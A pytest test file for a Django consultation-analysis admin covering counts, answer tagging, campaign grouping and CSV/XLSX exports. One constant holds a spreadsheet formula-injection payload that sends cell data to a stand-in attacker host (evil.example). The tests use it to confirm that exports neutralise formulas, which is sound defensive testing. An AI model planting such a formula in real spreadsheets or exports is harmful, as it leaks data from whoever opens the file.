"""The analysts' admin: per-question views, tags, notes, progress, counts, campaigns and exports."""

import csv
import io

import pytest
from openpyxl import load_workbook

from consultations import services
from consultations.duplicates import fingerprint, near_duplicate_groups
from consultations.models import Response
from tests.factories import AnswerFactory, ConsultationFactory, QuestionFactory, ResponseFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def analyst(db):
    return UserFactory(username="analyst", is_staff=True, groups=["Analysts"])


@pytest.fixture
def consultation():
    return ConsultationFactory(title="Clusters")


@pytest.fixture
def question(consultation):
    return QuestionFactory(section__consultation=consultation, text="What should change?")


def test_the_overview_counts_respondent_types_choices_and_progress(client_for, analyst, consultation, question):
    choice = QuestionFactory(section__consultation=consultation, kind="multiple", options="North\nSouth")
    for kind, regions, analysed in [
        ("individual", ["North"], True),
        ("individual", ["North", "South"], False),
        ("organisation", ["South"], False),
        ("organisation", ["North"], True),
    ]:
        row = ResponseFactory(consultation=consultation, respondent_type=kind, analysed=analysed, organisation="Org")
        AnswerFactory(response=row, question=choice, selected=regions, text="")
    ResponseFactory(consultation=consultation, status="draft", submitted_at=None)
    page = client_for(analyst).get(f"/admin/consultations/consultation/{consultation.pk}/analysis/")
    assert page.status_code == 200
    overview = page.context["overview"]
    assert (overview["total"], overview["analysed"], overview["progress"], overview["drafts"]) == (4, 2, 50, 1)
    assert [n for _, n in overview["by_type"]] == [2, 2]
    counts = dict(page.context["questions"])[choice]
    assert counts == [("North", 3, 1), ("South", 2, 1)]
    assert "2 of 4 responses analysed (50%)" in page.content.decode()


def test_analysts_tag_and_note_answers_and_mark_responses_analysed(client_for, analyst, consultation, question):
    answer = AnswerFactory(response=ResponseFactory(consultation=consultation), question=question)
    url = f"/admin/consultations/consultation/{consultation.pk}/analysis/{question.pk}/"
    client = client_for(analyst)
    client.post(url, {"new_tag": "  Long-term   funding "})
    [tag] = question.tags.all()
    assert tag.name == "Long-term funding" and tag.created_by == analyst
    saved = client.post(
        url,
        {
            "answer": answer.pk,
            f"a{answer.pk}-tags": [tag.pk],
            f"a{answer.pk}-note": "Typical",
            f"a{answer.pk}-analysed": "on",
        },
    )
    assert saved.status_code == 302
    answer.refresh_from_db()
    assert list(answer.tags.all()) == [tag] and answer.note == "Typical" and answer.response.analysed
    filtered = client.get(f"{url}?tag={tag.pk}")
    assert [a for a, _ in filtered.context["forms"]] == [answer]


def test_a_tag_belongs_to_its_question(consultation, question):
    other = QuestionFactory(section__consultation=consultation)
    tag = services.tag_create(question=other, name="Elsewhere", actor=None)
    answer = AnswerFactory(response=ResponseFactory(consultation=consultation), question=question)
    with pytest.raises(services.ValidationError):
        services.answer_annotate(answer=answer, tags=[tag], note="")


def test_campaign_answers_are_grouped_and_counted_not_discarded(client_for, analyst, consultation, question):
    template = "As a member of the Clusters Campaign I urge you to protect ten-year research funding for every region."
    variants = [template, template.upper(), template + " Thank you.", f"{template}  ", "Dear team, " + template]
    for text in [*variants, "Something entirely different about universities and skills."]:
        AnswerFactory(response=ResponseFactory(consultation=consultation), question=question, text=text)
    page = client_for(analyst).get(f"/admin/consultations/consultation/{consultation.pk}/analysis/{question.pk}/")
    [group] = page.context["groups"]
    assert group.count == 5
    assert page.context["page"].paginator.count == 6  # every answer still counts
    tag = services.tag_create(question=question, name="Campaign", actor=analyst)
    url = f"/admin/consultations/consultation/{consultation.pk}/analysis/{question.pk}/"
    client_for(analyst).post(url, {"group_tag": tag.pk, "group": ",".join(group.fingerprints)})
    assert tag.answers.count() == 5


def test_near_duplicates_need_most_of_their_words_in_common():
    a = "Research clusters need stable long term funding from government to grow"
    b = "Research clusters need stable long term funding from government to grow and thrive"
    c = "Tobacco control saves lives and money for the NHS every single year"
    groups = near_duplicate_groups([(fingerprint(t), t, 1) for t in (a, b, c)])
    assert [g.count for g in groups] == [2]
    assert fingerprint("Hello, World!") == fingerprint("hello world")


def export_rows(client, consultation, kind):
    response = client.get(f"/admin/consultations/consultation/{consultation.pk}/export.{kind}")
    assert response.status_code == 200
    if kind == "csv":
        assert response.streaming
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Responses"]
    return [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_the_csv_export_has_analyst_columns_and_neutralises_formulas(client_for, analyst, consultation, question):
    row = ResponseFactory(consultation=consultation, email="secret@example.org", organisation="")
    answer = AnswerFactory(response=row, question=question, text=HOSTILE, note="-1+1")
    answer.tags.add(services.tag_create(question=question, name="Hostile", actor=analyst))
    ResponseFactory(consultation=consultation, status="draft", submitted_at=None)
    rows = export_rows(client_for(analyst), consultation, "csv")
    header, data = rows[0], rows[1:]
    assert len(data) == 1
    assert header[-3:] == ["Q1. What should change?", "Q1 tags", "Q1 analyst note"]
    assert data[0][0] == row.public_reference
    assert data[0][-3:] == ["'" + HOSTILE, "Hostile", "'-1+1"]
    assert not any("secret@example.org" in cell for cell in data[0])


def test_the_xlsx_export_writes_hostile_text_as_a_string_never_a_formula(client_for, analyst, consultation, question):
    AnswerFactory(response=ResponseFactory(consultation=consultation), question=question, text=HOSTILE + "\x07")
    rows, sheet = export_rows(client_for(analyst), consultation, "xlsx")
    cell = sheet.cell(row=2, column=len(rows[0]) - 2)
    assert cell.value == HOSTILE and cell.data_type == "s"


def test_exports_include_late_responses_and_leave_out_withdrawn_ones(client_for, analyst, consultation, question):
    kept = ResponseFactory(consultation=consultation)
    ResponseFactory(consultation=consultation, status=Response.Status.WITHDRAWN)
    rows = export_rows(client_for(analyst), consultation, "csv")
    assert [r[0] for r in rows[1:]] == [kept.public_reference]
